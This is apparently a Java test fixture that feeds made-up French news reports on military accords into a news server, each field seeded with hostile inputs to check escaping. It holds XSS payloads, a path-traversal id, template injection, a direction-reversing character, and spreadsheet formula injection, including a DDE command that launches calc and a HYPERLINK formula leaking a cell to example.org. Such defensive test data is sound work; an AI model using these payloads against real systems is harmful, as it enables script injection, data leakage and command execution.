package org.entente.server;

import java.io.IOException;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import java.util.Optional;
import org.entente.article.Article;

/** Made-up reports that try to do harm wherever a source has a say. */
public final class Hostile {
  /** Runs in a page that takes a report's words for HTML. */
  public static final String SCRIPT = "<script>alert(1)</script>";

  /** Runs in a page that takes a report's words for a part of a tag. */
  public static final String IMAGE = "\"'><img src=x onerror=alert(1)>";

  /** Turns the direction of writing. */
  public static final String TURN = "\u202e";

  /** Runs in a spreadsheet that takes a cell for a formula. */
  public static final String FORMULA = "=HYPERLINK(\"http://example.org/?\"&A1;\"open\")";

  /** The id of a report, which leaves its folder, its address and its tag. */
  public static final String ID = "../..\\\"><script>alert(1)</script>";

  private Hostile() {}

  /** Adds the reports to a record. */
  public static void add(Path record) throws IOException {
    Dispatches.ingest(record, all());
  }

  private static List<Article> all() {
    return List.of(
        article(
            ID,
            "javascript:alert(1)",
            SCRIPT + TURN + " Paris et Bamako " + IMAGE + "x".repeat(1_000_000),
            SCRIPT + IMAGE + TURN,
            "2024-02-03",
            SCRIPT
                + " La France et le Mali ont signé le 2 février 2024 à Paris un accord de"
                + " coopération militaire "
                + IMAGE
                + ".\n"
                + TURN
                + "Fin."),
        article(
            "formula",
            "data:text/html," + SCRIPT,
            FORMULA,
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "2024-06-08",
            "=2+5 La Belgique et le Bénin ont signé le 7 juin 2024 à Cotonou un accord de"
                + " coopération militaire.\n+1 La ministre "
                + SCRIPT
                + " s'est félicitée."),
        article(
            "address",
            "https://example.org/\"onmouseover=\"alert(1)",
            TURN + "{{constructor.constructor('alert(1)')()}} ${7*7} <b>",
            "-1+1",
            "2024-07-09",
            "Le Togo et le Ghana ont signé le 8 juillet 2024 à Lomé un accord de défense appelé « "
                + IMAGE
                + " »."));
  }

  private static Article article(
      String id, String url, String title, String publisher, String published, String text) {
    return new Article(
        id,
        Optional.of(url),
        Optional.of(title),
        Optional.of(publisher),
        Optional.of(LocalDate.parse(published)),
        "fr",
        text);
  }
}
